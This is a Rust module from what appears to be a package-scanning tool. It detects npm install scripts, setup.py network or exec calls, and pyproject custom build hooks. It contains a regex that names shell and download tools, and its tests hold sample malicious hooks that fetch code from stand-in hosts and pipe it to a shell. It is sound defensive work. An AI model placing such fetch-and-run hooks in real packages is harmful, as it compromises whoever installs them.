//! Package install hooks: code a package manager runs on install, the
//! usual way a hijacked npm or PyPI release reaches its users — npm
//! `preinstall`/`install`/`postinstall` scripts, a `setup.py` that reaches
//! the network or runs commands, custom build hooks in `pyproject.toml`.

use std::sync::LazyLock;

use regex::Regex;

/// npm lifecycle scripts run by `npm install`.
const NPM_INSTALL_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];

/// Network access or command execution in hook code.
static RISKY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\b(?:curl|wget|invoke-webrequest|iwr|powershell|certutil|bitsadmin|nc|bash\s+-c|sh\s+-c)\b",
        r"|https?://|\bnode\s+-e\b|child_process|\beval\s*\(|\bexec\s*\(",
        r"|\bsubprocess\b|\bos\.system\b|\bos\.popen\b|\burllib\b|\brequests\.|\bsocket\b|base64\.b64decode",
    ))
    .unwrap()
});

/// A hook found in a package file.
#[derive(Clone, Debug, PartialEq)]
pub struct InstallHook {
    /// `scripts.postinstall`, `setup.py`, `pyproject.toml`.
    pub hook: String,
    /// The hook's command or the risky lines of its code.
    pub code: String,
    /// Whether it reaches the network or runs commands.
    pub risky: bool,
}

/// Install hooks in the file at `path` (judged by its name), if any.
pub fn install_hooks(path: &str, data: &[u8]) -> Vec<InstallHook> {
    let name = path.rsplit(['/', '!']).next().unwrap_or(path);
    let Ok(text) = std::str::from_utf8(data) else {
        return Vec::new();
    };
    match name {
        "package.json" => npm(text),
        "setup.py" => {
            let risky: Vec<&str> = text.lines().filter(|l| RISKY.is_match(l)).take(5).collect();
            if risky.is_empty() {
                Vec::new()
            } else {
                vec![InstallHook {
                    hook: "setup.py".into(),
                    code: risky.join("\n"),
                    risky: true,
                }]
            }
        }
        "pyproject.toml" => pyproject(text),
        _ => Vec::new(),
    }
}

fn npm(text: &str) -> Vec<InstallHook> {
    let Ok(manifest) = serde_json::from_str::<serde_json::Value>(text) else {
        return Vec::new();
    };
    let Some(scripts) = manifest.get("scripts").and_then(|s| s.as_object()) else {
        return Vec::new();
    };
    NPM_INSTALL_SCRIPTS
        .iter()
        .filter_map(|hook| {
            let code = scripts.get(*hook)?.as_str()?;
            Some(InstallHook {
                hook: format!("scripts.{hook}"),
                code: code.to_owned(),
                risky: RISKY.is_match(code),
            })
        })
        .collect()
}

/// Custom build hooks: `[tool.hatch.build.hooks.custom]`,
/// `[tool.hatch.build.targets.*.hooks.custom]`, or a local build backend
/// (`backend-path`), each running the package's own code at install.
fn pyproject(text: &str) -> Vec<InstallHook> {
    text.lines()
        .map(str::trim)
        .filter(|l| {
            (l.starts_with("[tool.hatch.build") && l.contains("hooks.custom"))
                || l.starts_with("backend-path")
        })
        .map(|l| InstallHook {
            hook: "pyproject.toml".into(),
            code: l.to_owned(),
            risky: false,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn npm_hooks_and_their_risk() {
        let pkg = br#"{"name":"x","scripts":{"test":"jest","postinstall":"node -e \"require('child_process').exec('curl http://x.example/a|sh')\"","prepare":"tsc"}}"#;
        let hooks = install_hooks("x.tgz!/package/package.json", pkg);
        assert_eq!(hooks.len(), 2);
        assert_eq!(hooks[0].hook, "scripts.postinstall");
        assert!(hooks[0].risky);
        assert_eq!(hooks[1].hook, "scripts.prepare");
        assert!(!hooks[1].risky);
        assert!(install_hooks("package.json", br#"{"scripts":{"test":"x"}}"#).is_empty());
        assert!(install_hooks("package.json", b"{not json").is_empty());
    }

    #[test]
    fn setup_py_network_and_exec() {
        let clean = b"from setuptools import setup\nsetup(name='x', version='1.0')\n";
        assert!(install_hooks("x/setup.py", clean).is_empty());
        let bad = b"import os, urllib.request\nurllib.request.urlopen('http://evil.example/p').read()\nos.system('sh p')\nsetup(name='x')\n";
        let hooks = install_hooks("x/setup.py", bad);
        assert_eq!(hooks.len(), 1);
        assert!(hooks[0].code.contains("urlopen") && hooks[0].code.contains("os.system"));
    }
}
